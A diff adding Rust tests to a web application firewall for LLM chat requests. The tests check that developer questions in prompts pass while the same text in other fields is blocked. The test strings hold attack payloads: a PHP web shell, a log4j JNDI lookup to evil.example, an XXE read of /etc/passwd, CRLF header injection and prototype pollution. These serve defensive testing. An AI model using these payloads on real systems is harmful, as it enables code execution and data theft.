@@ -81,6 +81,78 @@ fn llm_fields_handed_to_guard() {
     assert!(w2.inspect(&req).blocked);
 }
 
+/// Questions developers ask a model about code and protocols: each was
+/// blocked (403) in a prompt while only the injection categories were
+/// skipped there, `php` misspelt for `php-injection`.
+const DEVELOPER_QUESTIONS: &[&str] = &[
+    "Can you review this PHP snippet? <?php echo shell_exec($_GET['cmd']); ?> Is it safe?",
+    "Why does my code `<?php include($_GET['page'] . '.php'); ?>` get flagged by our scanner?",
+    "Explain what ${jndi:ldap://evil.example/a} does in a log4j log line.",
+    "My Java app uses Runtime.getRuntime().exec(cmd); how do I sanitise cmd?",
+    "Explain this XML: <!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
+    "Line one\r\nLine two\r\nSet-Cookie: is a header I saw in the response, what does it do?",
+    "Here is my request:\nPOST /login HTTP/1.1\nHost: example.com\nContent-Length: 10\n\nwhy 400?",
+    "What does __proto__ pollution mean? e.g. {\"__proto__\": {\"admin\": true}}",
+    "Explain: while(!0){} in node blocks the event loop?",
+    "My email template has\nBCC: someone@example.com\nin it, is that a problem?",
+    "Explain Ruby's `system(\"ls\")` vs backticks.",
+    "Is http://localhost:8080/admin reachable from inside the container?",
+    "Explain <meta http-equiv=\"Set-Cookie\" content=\"SESSID=abc\"> in old browsers",
+    "Our canary token uses abc.oastify.com; what is Burp Collaborator?",
+];
+
+fn chat(field: &str, text: &str) -> Request {
+    let body = serde_json::json!({
+        "model": "m",
+        field: text,
+        "messages": [{"role": "user", "content": if field == "messages" { text } else { "hi" }}],
+    });
+    Request::new("POST", "/v1/chat/completions")
+        .header("Host", "x")
+        .header("Content-Type", "application/json")
+        .body(body.to_string())
+}
+
+#[test]
+fn questions_about_code_in_a_prompt_pass_and_the_code_elsewhere_does_not() {
+    let w = waf(Config::default());
+    let mut blocked_elsewhere = 0;
+    for q in DEVELOPER_QUESTIONS {
+        let v = w.inspect(&chat("messages", q));
+        assert!(!v.blocked && v.matches.is_empty(), "{q:?}: {v:?}");
+        // The same text in a field that is not a prompt is read by every
+        // rule.
+        blocked_elsewhere += usize::from(w.inspect(&chat("user", q)).blocked);
+    }
+    assert!(
+        blocked_elsewhere >= DEVELOPER_QUESTIONS.len() - 2,
+        "{blocked_elsewhere} of {} blocked in a plain field",
+        DEVELOPER_QUESTIONS.len()
+    );
+    // A prompt's encoding anomalies are still the WAF's.
+    let v = w.inspect(&chat("messages", "hi\u{0}there"));
+    assert!(v.anomalies.iter().any(|a| a.code == "null_byte"), "{v:?}");
+}
+
+#[test]
+fn an_unknown_category_to_skip_is_refused_by_name() {
+    let mut cfg = Config::default();
+    cfg.llm.skip_categories.push("php".into());
+    let err = Waf::new(cfg).err().expect("refused").to_string();
+    assert!(
+        err.contains("\"php\"") && err.contains("php-injection"),
+        "{err}"
+    );
+    // Skipping fewer categories is allowed, and then they run on prompts.
+    let mut cfg = Config::default();
+    cfg.llm.skip_categories.retain(|c| c != "php-injection");
+    let v = waf(cfg).inspect(&chat("messages", DEVELOPER_QUESTIONS[0]));
+    assert!(
+        v.matches.iter().any(|m| m.category == "php-injection"),
+        "{v:?}"
+    );
+}
+
 #[test]
 fn paranoia_levels_gate_rules() {
     let r = get("/x?u=https://evil.example/a");
